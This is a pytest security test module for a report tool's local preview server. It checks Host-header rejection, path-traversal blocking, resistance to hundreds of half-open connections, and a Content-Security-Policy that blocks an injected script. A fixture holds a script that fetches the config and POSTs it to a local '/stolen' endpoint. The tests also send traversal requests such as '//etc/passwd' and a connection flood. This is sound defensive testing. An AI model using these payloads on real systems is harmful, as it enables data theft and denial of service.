"""The preview server of ``reportgen watch --serve`` under attack (issue 22, items 1-6).

A real ``reportgen watch --serve`` on loopback (one process for the module), real sockets,
and real headless Chromium for the Content-Security-Policy: a Host header that is not the
server's, hundreds of half-open connections, a ``<script>`` a template injects, bad
ports, a broken edit, and paths that are not the report's files. The same watcher serves
the authoring loop's checks (rebuilds on edits, a config that is not TOML).
"""

from __future__ import annotations

import http.client
import http.server
import itertools
import json
import queue
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from cli_process import start_reportgen

from reportgen import cli, serve
from reportgen.render.html import CSP_META
from reportgen.shipped import reports_dir

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="chromium not installed; "
                                    ".ci/run installs Debian's chromium")
FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run",
         "--disable-default-apps", "--disable-extensions", "--enable-logging=stderr", "--v=0")


class _Recorder(http.server.BaseHTTPRequestHandler):
    """A local port that a leaking page would send to: records every request."""

    seen: list[str]

    def _record(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_OPTIONS = _record

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


class Served(NamedTuple):
    process: subprocess.Popen[str]
    url: str
    port: int
    config: Path
    out: Path
    stderr: list[str]
    lines: queue.Queue[str]
    leaks: list[str]


def _injected_partial(leak_port: int) -> str:
    """A provenance partial whose script would retitle the page and send the served
    config to another local port (issue 22, item 3)."""
    return (
        '<footer class="provenance" id="provenance"><p>provenance</p></footer>\n'
        '<script>document.title = "INJECTED";'
        'fetch("/config.toml").then(function (r) { return r.text(); }).then(function (t) {'
        f'fetch("http://127.0.0.1:{leak_port}/stolen", {{method: "POST", body: t, '
        'mode: "no-cors"}); });</script>\n'
    )


def _wait_for(lines: queue.Queue[str], seen: list[str], pattern: str,
              timeout: float = 180) -> str:
    deadline = time.monotonic() + timeout
    while (left := deadline - time.monotonic()) > 0:
        try:
            line = lines.get(timeout=left)
        except queue.Empty:
            break
        if re.search(pattern, line):
            return line
    raise AssertionError(f"no line matching {pattern!r} within {timeout} s: {seen}")


@pytest.fixture(scope="module")
def leak_listener() -> Iterator[tuple[int, list[str]]]:
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], seen
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory,
           leak_listener: tuple[int, list[str]]) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("served")
    config = folder / "handout.toml"
    config.write_text((reports_dir() / "source-notebook.toml").read_text(encoding="utf-8"))
    templates = folder / "templates"
    (templates / "partials").mkdir(parents=True)
    (templates / "partials" / "provenance.html").write_text(
        _injected_partial(leak_listener[0]), encoding="utf-8")
    out = folder / "out"
    process = start_reportgen("watch", config, "--out", out, "--set", "surface.resolution=20",
                              "--templates", templates, "--serve", "--port", "0",
                              stdout=subprocess.DEVNULL)
    lines: queue.Queue[str] = queue.Queue()
    seen: list[str] = []

    def read() -> None:
        assert process.stderr is not None
        for line in process.stderr:
            seen.append(line)
            lines.put(line)

    threading.Thread(target=read, daemon=True).start()
    try:
        url = _wait_for(lines, seen, r"serving http").split()[1]
        _wait_for(lines, seen, r"rebuilt .* in ")
        port = int(url.rsplit(":", 1)[1].strip("/"))
        yield Served(process, url, port, config, out, seen, lines, leak_listener[1])
    finally:
        process.terminate()
        process.wait(30)


def _get(port: int, path: str, host: str | None = "default",
         method: str = "GET") -> tuple[int, dict[str, str], bytes]:
    """One request; ``host``: "default" (127.0.0.1:PORT, as a browser sends it), None (no
    Host header) or the header's value."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.putrequest(method, path, skip_host=host != "default")
    if host not in (None, "default"):
        connection.putheader("Host", host)
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response.status, {k.lower(): v for k, v in response.getheaders()}, body


# ---------------------------------------------------------------- 1: the Host header


@pytest.mark.slow
@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:{port}",
                                  "127.0.0.1:1", "localhost", "127.0.0.2:{port}", None])
def test_a_foreign_host_header_reads_nothing(served: Served, host: str | None) -> None:
    named = None if host is None else host.format(port=served.port)
    for path in ("/", "/results.json", "/config.toml", serve.RELOAD_PATH):
        status, _headers, body = _get(served.port, path, named)
        assert status == 403, (path, named)
        assert b"results" not in body and b"seed" not in body


@pytest.mark.slow
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "LOCALHOST"])
def test_the_servers_own_names_are_served(served: Served, name: str) -> None:
    status, _headers, body = _get(served.port, "/results.json", f"{name}:{served.port}")
    assert status == 200 and json.loads(body)["schema"].startswith("reportgen.results")


# ---------------------------------------------------------------- 6: only the report's files


@pytest.mark.slow
def test_only_the_reports_own_files_are_served(served: Served) -> None:
    manifest = json.loads(_get(served.port, "/manifest.json")[2])
    figure = next(name for name in manifest["files"] if name.startswith("figures/"))
    assert _get(served.port, "/" + figure)[0] == 200
    (served.out / "figures" / "mine.svg").write_text("<svg/>")  # dropped in by someone
    try:
        for path in ("/figures/", "/figures", "/figures/mine.svg", "/../handout.toml",
                     "/%2e%2e/handout.toml", "//etc/passwd", "/templates/"):
            status, _headers, body = _get(served.port, path)
            assert status == 404, path
            assert b"Directory listing" not in body and b"<a href" not in body
    finally:
        (served.out / "figures" / "mine.svg").unlink()
    status, headers, _body = _get(served.port, "/" + figure)
    assert headers["x-content-type-options"] == "nosniff"
    assert "script-src" not in headers["content-security-policy"]  # nothing runs there
    assert _get(served.port, "/", method="HEAD")[2] == b""


# ---------------------------------------------------------------- 2: bounded connections


@pytest.mark.slow
def test_half_open_connections_neither_block_nor_pile_up(served: Served) -> None:
    sockets = []
    for _ in range(400):
        held = socket.create_connection(("127.0.0.1", served.port), timeout=10)
        held.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # and never the blank line
        sockets.append(held)
    try:
        started = time.monotonic()
        status, _headers, body = _get(served.port, serve.RELOAD_PATH)
        assert status == 200 and body.isdigit()
        assert time.monotonic() - started < 5
        # every held connection is closed by the server once its head has timed out: wait
        # for each (as long as that takes, and 2 s more), not a fixed time for all
        deadline = time.monotonic() + serve.HEAD_TIMEOUT_S + 2
        closed = 0
        for held in sockets:
            held.settimeout(max(deadline - time.monotonic(), 0.01))
            try:
                closed += held.recv(1) == b""
            except ConnectionResetError:
                closed += 1
            except TimeoutError:
                pass
        assert closed == len(sockets)
    finally:
        for held in sockets:
            held.close()
    assert _get(served.port, serve.RELOAD_PATH)[0] == 200
    assert not [line for line in served.stderr if "Traceback" in line or "Exception" in line]


# ---------------------------------------------------------------- 3: only the reload script runs


def _chromium(profile: Path, url: str) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM is not None
    profile.mkdir(exist_ok=True)
    return subprocess.run([CHROMIUM, *FLAGS, f"--user-data-dir={profile}",
                           "--virtual-time-budget=4000", "--dump-dom", url],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.slow
@needs_chromium
def test_a_script_from_a_template_does_not_run_in_the_served_page(
    served: Served, tmp_path: Path
) -> None:
    status, headers, page = _get(served.port, "/")
    assert status == 200 and b'document.title = "INJECTED"' in page  # it is in the page
    policy = headers["content-security-policy"]
    assert f"script-src '{serve.RELOAD_HASH}'" in policy and "unsafe-inline'; c" not in policy
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1]
    done = _chromium(tmp_path / "profile", served.url)
    assert done.returncode == 0, done.stderr[-2000:]
    title = re.search(r"<title>(.*?)</title>", done.stdout)
    assert title is not None and title.group(1) == "Gradient descent for linear regression"
    assert "violates the following Content Security Policy" in done.stderr
    time.sleep(1)
    assert served.leaks == []


@needs_chromium
def test_the_reload_script_runs_and_reloads_under_the_policy(tmp_path: Path) -> None:
    """The same policy lets the reload script run: a rebuild reloads the page (and an
    injected script next to it still does not run)."""
    calls = itertools.count()

    def site() -> serve.Site:
        version = min(next(calls) // 3, 1)  # the page and two polls, then one rebuild
        page = (f'<!doctype html><html lang="en"><head><meta charset="utf-8">{CSP_META}'
                f"<title>version {version}</title></head><body><p>v{version}</p>"
                '<script>document.title = "INJECTED"</script></body></html>')
        return serve.Site({"index.html": page.encode()}, version, None)

    with serve.serving(site) as url:
        done = _chromium(tmp_path / "profile", url)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "<title>version 1</title>" in done.stdout


# ---------------------------------------------------------------- 4: bad ports


@pytest.mark.parametrize("port", ["99999", "-1", "65536"])
def test_a_port_out_of_range_is_one_line_and_exit_2(
    tmp_path: Path, port: str, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "h.toml"
    config.write_text("[data]\nn = 5\n")
    code = cli.main(["watch", str(config), "--serve", "--port", port,
                     "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 2
    assert err == (f"reportgen: error: --port: expected a port number from 0 to 65535 (0 "
                   f"picks a free one), got {port}\n")
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- 5: errors in the page


@pytest.mark.slow
def test_a_broken_edit_shows_in_the_page_until_the_next_good_build(served: Served) -> None:
    lines = served.lines
    good = served.config.read_text()
    version = int(_get(served.port, serve.RELOAD_PATH)[2])
    served.config.write_text(good.replace("[data]", "[data]\nnn = 3", 1))
    try:
        line = _wait_for(lines, served.stderr, r"error:")
        assert "data.nn: unknown key" in line
        page = _get(served.port, "/")[2].decode()
        assert "data-reportgen-error" in page and "data.nn: unknown key" in page
        assert "Gradient descent for linear regression</h1>" in page  # the last good report
        assert int(_get(served.port, serve.RELOAD_PATH)[2]) > version  # the page reloads
    finally:
        served.config.write_text(good.replace('title = "Gradient descent', 'title = "Fixed', 1))
    _wait_for(lines, served.stderr, r"rebuilt .* in ")
    page = _get(served.port, "/")[2].decode()
    assert "data-reportgen-error" not in page and "Fixed for linear regression</h1>" in page


# ---------------------------------------------------------------- the authoring loop


@pytest.mark.slow
def test_edits_rebuild_and_only_the_served_page_reloads(served: Served) -> None:
    """``reportgen watch --serve`` as an author uses it (this module's watcher): the
    reload script is in the served page only, an edit rebuilds the written report and
    reloads the page, and a config that is not TOML is one line that keeps the last good
    report until a good edit."""
    lines, good = served.lines, served.config.read_text()
    html = served.out / "index.html"
    page = _get(served.port, "/")[2].decode()
    assert "location.reload()" in page and f"script-src '{serve.RELOAD_HASH}'" in page
    assert "'unsafe-inline'; connect-src" not in page
    written = html.read_text()
    assert "<script>(function" not in written and "script-src" not in written
    version = int(_get(served.port, serve.RELOAD_PATH)[2])
    title = re.search(r'^title = "(.*)"$', good, re.M)
    assert title is not None
    try:
        served.config.write_text(good.replace(title.group(0), 'title = "Edited title"'))
        _wait_for(lines, served.stderr, r"rebuilt .* in ")
        assert "<h1>Edited title</h1>" in html.read_text()
        assert int(_get(served.port, serve.RELOAD_PATH)[2]) > version
        last_good = html.read_bytes()
        served.config.write_text("title = = broken\n")
        line = _wait_for(lines, served.stderr, r"error:")
        assert "handout.toml: line 1, column 9: invalid TOML" in line
        assert "keeping the last good report" in line
        assert html.read_bytes() == last_good
        served.config.write_text(good.replace(title.group(0), 'title = "Fixed"'))
        _wait_for(lines, served.stderr, r"rebuilt .* in ")
        assert "<h1>Fixed</h1>" in html.read_text()
    finally:
        served.config.write_text(good)
    _wait_for(lines, served.stderr, r"rebuilt .* in ")
